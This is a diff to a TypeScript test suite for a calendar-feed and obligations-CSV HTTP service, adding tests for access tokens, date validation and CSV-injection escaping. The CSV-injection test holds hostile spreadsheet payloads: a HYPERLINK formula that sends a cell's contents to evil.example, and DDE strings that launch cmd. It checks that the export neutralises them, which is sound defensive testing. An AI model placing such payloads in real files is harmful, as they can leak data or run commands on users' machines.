@@ -54,24 +54,36 @@ let dbPath: string;
 let server: RunningHttpServer;
 let scheduler: SchedulerStatus;
 let log: ReturnType<typeof capturedLogger>;
+let feedsBuilt: number;
 
-async function start(calendarSecret?: string) {
+const LEDGER_TOKEN = 'ledger-token-0123456789abcdef';
+
+async function start({ calendarSecret, ledgerToken = LEDGER_TOKEN }: { calendarSecret?: string; ledgerToken?: string | null } = {}) {
   log = capturedLogger();
+  feedsBuilt = 0;
+  const endpoints = serviceEndpoints({
+    db,
+    dbPath,
+    directory,
+    policy: defaultPolicy,
+    clock: fixedClock(NOW),
+    startedAt: NOW,
+    scheduler: () => scheduler,
+    details: () => ({ channels: { email: { via: 'eml files' }, telegram: { configured: false } } }),
+    calendarSecret,
+    ledgerToken: ledgerToken ?? undefined,
+    });
   server = await startHttpServer({
     port: 0,
     host: '127.0.0.1',
     logger: log.logger,
-    endpoints: serviceEndpoints({
-      db,
-      dbPath,
-      directory,
-      policy: defaultPolicy,
-      clock: fixedClock(NOW),
-      startedAt: NOW,
-      scheduler: () => scheduler,
-      details: () => ({ channels: { email: { via: 'eml files' }, telegram: { configured: false } } }),
-      calendarSecret,
-    }),
+    endpoints: {
+      ...endpoints,
+      unitFeed: (unit) => {
+        feedsBuilt++;
+        return endpoints.unitFeed(unit);
+      },
+    },
   });
 }
 
@@ -200,7 +212,7 @@ describe('/calendar/<unit>.ics', () => {
 
   it('needs the unit token when CALENDAR_TOKEN_SECRET is set, the same for every alias', async () => {
     const secret = 'calendar-secret-0123456789abcdef';
-    await start(secret);
+    await start({ calendarSecret: secret });
     const token = calendarToken(secret, '省发展和改革委员会');
     expect((await get(`/calendar/${encodeURIComponent('省发改委')}.ics`)).status).toBe(403);
     expect((await get(`/calendar/${encodeURIComponent('省发改委')}.ics?token=${calendarToken(secret, '省财政厅')}`)).status).toBe(403);
@@ -209,11 +221,22 @@ describe('/calendar/<unit>.ics', () => {
     expect(ok.status).toBe(200);
     expect(eventsOf(await ok.text())).toHaveLength(2);
   });
+
+  it('checks the token before building anything, so strangers learn nothing and cost nothing', async () => {
+    const secret = 'calendar-secret-0123456789abcdef';
+    await start({ calendarSecret: secret });
+    expect((await get(`/calendar/${encodeURIComponent('省发改委')}.ics`)).status).toBe(403);
+    expect((await get(`/calendar/${encodeURIComponent('省体育局')}.ics?token=wrong`)).status).toBe(403);
+    expect(feedsBuilt).toBe(0);
+    // A valid token for a unit nothing reaches: its holder may know it is empty.
+    expect((await get(`/calendar/${encodeURIComponent('省体育局')}.ics?token=${calendarToken(secret, '省体育局')}`)).status).toBe(404);
+    expect(feedsBuilt).toBe(1);
+  });
 });
 
 describe('/obligations.csv', () => {
   async function csv(query: string) {
-    const res = await get(`/obligations.csv${query}`);
+    const res = await fetch(`${server.url}/obligations.csv${query}`, { headers: { authorization: `Bearer ${LEDGER_TOKEN}` } });
     expect(res.status).toBe(200);
     const bytes = Buffer.from(await res.arrayBuffer());
     return { res, bytes, rows: parseCsv(bytes, { bom: true, columns: true }) as Array<Record<string, string>> };
@@ -266,9 +289,74 @@ describe('/obligations.csv', () => {
 
   it('says what is wrong with a bad filter', async () => {
     await start();
-    const res = await get('/obligations.csv?from=2018-13&to=2018-01-01');
+    const token = `token=${LEDGER_TOKEN}`;
+    const res = await get(`/obligations.csv?from=2018-13&to=2018-01-01&${token}`);
     expect(res.status).toBe(400);
     expect(await res.text()).toMatch(/from: expected YYYY-MM-DD/);
-    expect((await get('/obligations.csv?from=2019-01-01&to=2018-01-01')).status).toBe(400);
+    expect((await get(`/obligations.csv?from=2019-01-01&to=2018-01-01&${token}`)).status).toBe(400);
+  });
+
+  it('refuses an impossible date by its parameter, before any row is written', async () => {
+    await start();
+    for (const [query, parameter] of [
+      ['from=2018-06-31', 'from'],
+      ['to=2018-13-01', 'to'],
+      ['from=2018-02-29&to=2018-12-31', 'from'],
+    ]) {
+      const res = await get(`/obligations.csv?${query}&token=${LEDGER_TOKEN}`);
+      expect(res.status, query).toBe(400);
+      expect(await res.text()).toMatch(new RegExp(`^${parameter}: expected a real calendar date`));
+    }
+    expect(log.lines().filter((l) => (l.level as number) >= 50)).toEqual([]);
+    expect((await get(`/obligations.csv?from=2020-02-29&token=${LEDGER_TOKEN}`)).status).toBe(200);
+  });
+
+  it('is off, and says so, without LEDGER_TOKEN; with it, only the token opens it', async () => {
+    await start({ ledgerToken: null });
+    const off = await get('/obligations.csv');
+    expect(off.status).toBe(403);
+    expect(await off.text()).toMatch(/台账导出未开启.*LEDGER_TOKEN/);
+    await server.close();
+
+    await start();
+    const missing = await get('/obligations.csv');
+    expect(missing.status).toBe(401);
+    expect(missing.headers.get('www-authenticate')).toMatch(/^Bearer/);
+    expect(await missing.text()).toMatch(/台账导出需要令牌/);
+    expect((await get('/obligations.csv?token=ledger-token-0123456789abcdeX')).status).toBe(401);
+    expect((await fetch(`${server.url}/obligations.csv`, { headers: { authorization: 'Bearer nope' } })).status).toBe(401);
+    // The token of a calendar opens no ledger.
+    expect((await get(`/obligations.csv?token=${calendarToken(LEDGER_TOKEN, '省财政厅')}`)).status).toBe(401);
+    expect((await get(`/obligations.csv?token=${LEDGER_TOKEN}`)).status).toBe(200);
+    expect((await fetch(`${server.url}/obligations.csv`, { headers: { authorization: `Bearer ${LEDGER_TOKEN}` } })).status).toBe(200);
+    // The request log names the path only, never the token.
+    expect(JSON.stringify(log.lines())).not.toContain(LEDGER_TOKEN);
+  });
+
+  it('writes a hostile record as text Excel will not run (CSV injection)', async () => {
+    const hostile = obligation({
+      source: 'hostile.jsonl',
+      line: 1,
+      task: '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+      lead: ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
+      co: ['-2+3+cmd|\' /C calc\'!A0'],
+      expression: '\t2018年7月底前',
+      due: '2018-07-31',
+      doc: { number: '+1+1', title: '\r=1+1', issued: '2018-01-15' },
+    });
+    importObligations(db, 'hostile.jsonl', [hostile], NOW);
+    await start();
+    const { rows } = await csv('');
+    const row = rows.find((r) => r.来源 === 'hostile.jsonl')!;
+    expect(row).toMatchObject({
+      任务: `'=HYPERLINK("http://evil.example/?x="&A1,"点击")`,
+      牵头单位: `'@SUM(1+1)*cmd|' /C calc'!A0`,
+      配合单位: `'-2+3+cmd|' /C calc'!A0`,
+      文号: "'+1+1",
+      文件标题: "'\r=1+1",
+      时限原文: "'\t2018年7月底前",
+      到期日: '2018-07-31',
+    });
+    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
